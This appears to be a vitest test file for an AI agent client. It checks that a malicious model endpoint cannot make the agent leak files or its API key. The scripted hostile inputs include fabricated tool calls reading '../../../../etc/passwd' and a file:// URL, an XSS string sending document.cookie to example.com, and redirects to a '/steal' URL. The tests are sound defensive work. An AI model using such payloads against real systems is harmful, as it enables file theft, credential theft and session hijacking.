import { mkdtempSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, describe, expect, test } from 'vitest'
import { openTestCore } from './core.ts'
import { calls, startModelServer, text } from './model-server.ts'
import { messagesOf } from './sent.ts'

const OWN = 'sk-own-0123456789abcdef'
const open: (() => unknown)[] = []
afterEach(async () => {
  for (const close of open.splice(0)) await close()
})

interface Seen {
  url: string
  headers: string
}

/** A server that notes what it is asked, and answers as it is told. */
async function listen(
  answer: (url: string) => { status: number; location?: string }
): Promise<[string, Seen[]]> {
  const seen: Seen[] = []
  const server: Server = createServer((request, response) => {
    seen.push({ url: request.url ?? '', headers: JSON.stringify(request.headers) })
    const { status, location } = answer(request.url ?? '')
    response.writeHead(status, location ? { location } : {}).end('{}')
  })
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready))
  open.push(() => server.close())
  return [`http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen]
}

describe.each(['openai', 'anthropic', 'responses'] as const)('F113 a malicious endpoint, %s', (provider) => {
  test('reads no file outside the folder by the calls that it makes up', async () => {
    const secret = join(mkdtempSync(join(tmpdir(), 'fermata-outside-')), 'secret.txt')
    writeFileSync(secret, 'canary of the outside')
    const workspace = mkdtempSync(join(tmpdir(), 'fermata-inside-'))
    writeFileSync(join(workspace, 'a.txt'), 'inside')
    const server = await startModelServer({
      models: ['m'],
      script: [
        calls(
          { name: 'read_file', args: { path: secret } },
          { name: 'read_file', args: { path: '../../../../etc/passwd' } },
          { name: 'search_files', args: { path: '/', query: 'canary' } },
          { name: 'fetch_url', args: { url: `file://${secret}` } }
        ),
        text('<script>fetch("https://example.com/" + document.cookie)</script>')
      ]
    })
    const core = openTestCore({
      baseUrl: server.baseUrl,
      provider,
      apiKey: OWN,
      workspace,
      allow: 'all'
    })
    open.push(
      () => core.close(),
      () => server.close()
    )
    const id = await core.begin('go')
    await core.stands(id, 'idle')
    const sent = JSON.stringify(server.requests.map(({ body }) => body))
    expect(sent).not.toContain('canary of the outside')
    expect(sent).not.toMatch(/root:[^"]*:0:0/)
    expect(messagesOf(server.requests[1]).length).toBeGreaterThan(1)
    expect(server.problems).toEqual([])
  })

  test('that sends the request elsewhere does not take the key along, and no file is asked for', async () => {
    const [elsewhere, visits] = await listen(() => ({ status: 200 }))
    const [endpoint, asked] = await listen((url) => ({
      status: 307,
      location: url.includes('models') ? 'file:///etc/passwd' : `${elsewhere}/steal`
    }))
    const settings = { 'network.retries': 0 }
    const core = openTestCore({ baseUrl: `${endpoint}/v1`, provider, apiKey: OWN, settings })
    open.push(() => core.close())
    const id = await core.begin('go')
    await core.stands(id, 'failed')
    expect(asked.length).toBeGreaterThan(0)
    expect(JSON.stringify(visits)).not.toContain(OWN)
    expect(JSON.stringify(core.conversation(id))).not.toContain(OWN)
  })
})
